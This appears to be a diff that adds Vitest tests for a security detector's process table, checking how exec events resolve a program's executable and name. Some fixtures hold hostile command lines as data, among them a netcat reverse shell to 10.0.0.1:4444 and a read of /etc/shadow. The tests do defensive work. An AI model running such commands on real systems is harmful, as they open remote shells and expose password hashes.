@@ -1,0 +1,48 @@
+/**
+ * The process table's view of an exec: `exe` is the file that runs (the kernel's mm->exe_file from
+ * process.exec), `name` what the program is called, and the syscall.execve of the same exec (no
+ * exe of its own) does not undo what process.exec said.
+ */
+import { describe, expect, it } from 'vitest';
+import { ProcessTable } from '@boxwatch/detector';
+import { ev } from '../helpers/events.js';
+
+const procExec = (fields: object, pid = 100) => ev('process.exec', { argv_truncated: false, ppid: 1, uid: 0, ns_pid: 7, tty: 0, interpreter: null, ...fields }, { pid, comm: 'x' });
+const execve = (filename: string, argv: string[], pid = 100) => ev('syscall.execve', { filename, argv, ret: 0 }, { pid, comm: 'x' });
+
+describe('ProcessTable exe and name', () => {
+  it('a busybox applet run through /proc/self/exe is named by argv[0] and runs /bin/busybox, also after its syscall.execve', () => {
+    const t = new ProcessTable();
+    t.observe(procExec({ filename: '/proc/self/exe', exe: '/bin/busybox', argv: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] }));
+    t.observe(execve('/proc/self/exe', ['nc', '-e', '/bin/sh', '10.0.0.1', '4444']));
+    expect(t.get(100)).toMatchObject({ exe: '/bin/busybox', name: 'nc' });
+  });
+
+  it('a symlinked applet keeps its own name; its exe is the target', () => {
+    const t = new ProcessTable();
+    t.observe(procExec({ filename: '/bin/cat', exe: '/bin/busybox', argv: ['cat', '/etc/shadow'] }));
+    expect(t.get(100)).toMatchObject({ exe: '/bin/busybox', name: 'cat' });
+  });
+
+  it('a #! script is the program: exe and name are the script, not its interpreter', () => {
+    const t = new ProcessTable();
+    t.observe(procExec({ filename: '/usr/lib/cgi-bin/run.sh', exe: '/bin/busybox', interpreter: '/bin/sh', argv: ['/bin/sh', '/usr/lib/cgi-bin/run.sh'] }));
+    t.observe(execve('/usr/lib/cgi-bin/run.sh', ['/usr/lib/cgi-bin/run.sh']));
+    expect(t.get(100)).toMatchObject({ exe: '/usr/lib/cgi-bin/run.sh', name: 'run.sh' });
+  });
+
+  it('without a kernel exe (exe: null, or only syscall.execve) the path exec\'d is the exe', () => {
+    const t = new ProcessTable();
+    t.observe(procExec({ filename: '/usr/bin/curl', exe: null, argv: ['curl'] }));
+    expect(t.get(100)).toMatchObject({ exe: '/usr/bin/curl', name: 'curl' });
+    t.observe(execve('/usr/bin/wget', ['wget']));
+    expect(t.get(100)).toMatchObject({ exe: '/usr/bin/wget', name: 'wget' });
+  });
+
+  it('a later exec of another file replaces the kernel exe', () => {
+    const t = new ProcessTable();
+    t.observe(procExec({ filename: '/bin/sh', exe: '/bin/busybox', argv: ['sh'] }));
+    t.observe(execve('/tmp/x', ['x']));
+    expect(t.get(100)).toMatchObject({ exe: '/tmp/x', name: 'x' });
+  });
+});
